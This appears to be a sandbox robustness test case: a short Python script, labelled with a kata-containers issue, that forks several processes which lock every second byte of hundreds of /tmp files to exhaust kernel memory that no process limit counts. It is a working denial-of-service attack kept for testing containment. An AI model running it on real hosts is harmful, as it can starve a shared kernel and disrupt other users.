# Attack: 77, locks on single bytes, each of which costs the kernel memory
# Source: kata-containers issue 3373 (POSIX locks that no limit counts)
# Tries: locks every second byte of many files from many processes, for as long as it is let.
# Meets: no limit of a process counts locks, but making them takes time: the CPU limit ends it, or the memory cgroup.
# Expect: ended by CPU time or memory or killed by SIGKILL
# Limits: cpu_s=2
import fcntl
import os

for number in range(8):
    if not os.fork():
        break
files = [os.open(f"/tmp/{os.getpid()}-{number}", os.O_RDWR | os.O_CREAT) for number in range(200)]
byte = 0
while True:
    byte += 2
    for file in files:
        fcntl.lockf(file, fcntl.LOCK_EX, 1, byte)
